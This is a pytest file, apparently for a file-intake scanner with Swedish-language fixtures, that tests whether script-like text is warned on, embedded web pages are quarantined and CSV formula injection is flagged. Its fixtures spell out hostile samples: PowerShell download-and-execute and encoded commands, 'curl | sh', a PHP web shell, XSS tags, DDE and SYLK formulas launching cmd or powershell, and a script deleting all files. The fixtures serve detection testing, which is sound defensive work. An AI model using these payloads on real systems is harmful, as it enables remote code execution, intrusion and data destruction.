"""Text: words are accepted, what something could run is told of, and pages are quarantined."""

from __future__ import annotations

import pytest

from intake.files import second_opinion
from tests.files.looked import looked

PROSE = "Hej! Jag såg bilen på Väg 55, den var röd. Är det någon som vet mer?\r\n"
PROGRAMS = {
    "vbs.txt": b'Set o = CreateObject("WScript.Shell")\r\no.Run "calc.exe"\r\n',
    "vbs.log": b'Option Explicit\r\nDim x\r\nx = 1\r\nMsgBox "hej"\r\n',
    "ps1.txt": b"$c = New-Object Net.WebClient\nIEX $c.DownloadString('http://x')\n",
    "liten-ps1.txt": b'Write-Host "hej"\nGet-Process | Stop-Process\n',
    "wsh.txt": b'var x = new ActiveXObject("WScript.Shell");\nx.Run("calc");\n',
    "js.txt": b'function a() {\n  document.write("x");\n}\nalert(1);\n',
    "reg.txt": b"Windows Registry Editor Version 5.00\r\n",
    "bat.txt": b"if exist c:\\x (\r\ndel /f /q c:\\x\r\n)\r\n",
    "bat-till.txt": b"start calc.exe\r\ndel /f /q c:\\x\r\n",
    "skal.txt": b"curl -s https://example.org/a | sh\n",
    "dolt.txt": b"eval(unescape('%61'))\n",
    "makro.txt": b"Sub AutoOpen()\r\n  Shell x\r\nEnd Sub\r\n",
    "lang-rad.txt": PROSE.encode() + b"powershell -enc AAAA\r\n",
}
PAGES = {
    "script.txt": b"<script>alert(1)</script>",
    "skript-med-adress.txt": b"<script src='//example.org/a.js'>",
    "bild.txt": b"<img src=x onerror=alert(1)>",
    "ram.txt": b"<iframe src='https://example.org'></iframe>",
    "lank.txt": b"<a href=' javascript:alert(1)'>x</a>",
    "php.txt": b"<?php system($_GET[1]); ?>",
    "php.ics": b"BEGIN:VCALENDAR\r\n<?php system($_GET[1]); ?>",
    "sida.vcf": b"BEGIN:VCARD\r\n<!DOCTYPE html><html>",
    "form.txt": b"<form method=post action='https://example.org'>",
}
WORDS = {
    "mejl.txt": b"> From: <asa@example.org>\n> <https://example.org/a?b=c&d>\nHej <3 tack!\n",
    "logg.log": b"2026-01-02 10:11:12 ERROR <main> a.b.C: set x = 1; function f() failed {code: 1}\n" * 30,
    "nollor.txt": PROSE.encode() + b"\0" * 512,
    "json.txt": b'{"a": [1, 2, {"b": "<c>"}], "d": "e"}\n',
    "kod.txt": b"#include <stdio.h>\nint main(void) { return 0; }\n",
    "om-html.txt": b"Taggen <script> borde inte synas, och <body> inte heller.\n",
    "lista.txt": "Get-ready party\nSet menu: fisk\nstart / mål\n".encode(),
    "tabell.csv": "Namn;Belopp;Telefon\nÅsa;-44,00;+46701234567\nBo;=1+2;@bo\n".encode(),
    "minus.csv": b"a,b\n-1,+2\n- x,=A1\n",
    "person.csv": b"ID;Personnr;Namn\n1;19900101;Bo\n2;19800101;Eva\n",
    "lista.csv": b"- namn|adress|telefon!\n- Bo|Gatan 1|112\n",
    "inbjudan.ics": b"BEGIN:VCALENDAR\r\nX-ALT-DESC;A=text/html:<html>\r\n <body>Hej\r\nEND:VCALENDAR\r\n",
}
FORMULAS = {
    "dde.csv": b"a;b\n=cmd|' /C calc'!A0;1\n",
    "lank.csv": b'a,b\n"=HYPERLINK(""http://example.org"",""x"")",1\n',
    "plus.csv": b"a;b\n1;+cmd|'/c calc'!A1\n",
    "summa.csv": b"a;b\n@SUM(1+1)*cmd|' /C calc'!A0;1\n",
    "minus.csv": b"a,b\n-2+3+powershell.exe|'-enc x'!A0,1\n",
    "sylk.csv": b"ID;P\nO;E\nNN;NAuto_open;ER101C1\n",
    "web.txt": b'a\tb\n1\t=WEBSERVICE("http://example.org")\n',
}


@pytest.mark.parametrize("name", WORDS)
def test_ordinary_text_is_accepted(tmp_path, name):
    assert looked(tmp_path, name, WORDS[name]).codes == []


@pytest.mark.parametrize("name", PROGRAMS)
def test_text_that_something_could_run_is_passed_on_with_a_warning(tmp_path, name):
    seen = looked(tmp_path, name, PROGRAMS[name])
    assert (seen.codes, seen.verdict) == (["script_text"], "warn")


@pytest.mark.parametrize("name", PAGES)
@pytest.mark.parametrize("lead", ["", " " * 9000, PROSE * 40])
def test_a_page_in_text_is_quarantined_wherever_it_stands(tmp_path, name, lead):
    for code in ("utf-8", "utf-16"):
        seen = looked(tmp_path, name, (lead + PAGES[name].decode()).encode(code))
        assert seen.verdict == "quarantine", (code, seen.detected_type)


@pytest.mark.parametrize("name", FORMULAS)
def test_a_table_that_would_start_something_is_passed_on_with_a_warning(tmp_path, name):
    seen = looked(tmp_path, name, FORMULAS[name])
    assert (seen.codes, seen.verdict) == (["formulas"], "warn")


def test_a_calendar_may_hold_a_page_as_outlook_writes_them(tmp_path):
    event = (
        "BEGIN:VCALENDAR\r\nX-ALT-DESC;FMTTYPE=text/html:<html><body>Hej</body></html>\r\nEND:VCALENDAR\r\n"
    )
    assert looked(tmp_path, "a.ics", event.encode()).codes == []


PYTHON = b"""import os
import sys

def main(args):
    for name in os.listdir("."):
        os.remove(name)
    print({"a": 1})

if __name__ == "__main__":
    main(sys.argv)
"""


def test_a_second_opinion_only_warns(tmp_path):
    seen = looked(tmp_path, "a.txt", PYTHON)
    assert (seen.codes, seen.verdict) == (["second_opinion_differs"], "warn")
    assert "python" in seen.findings[0].handler


def test_a_second_opinion_is_not_asked_for_of_words(tmp_path, monkeypatch):
    monkeypatch.setattr(second_opinion, "_magika", lambda: pytest.fail("asked"))
    assert looked(tmp_path, "a.txt", (PROSE * 40).encode()).codes == []


def test_without_magika_there_is_no_second_opinion(tmp_path, monkeypatch):
    monkeypatch.setattr(second_opinion, "is_installed", lambda: False)
    assert looked(tmp_path, "a.txt", PYTHON).codes == []
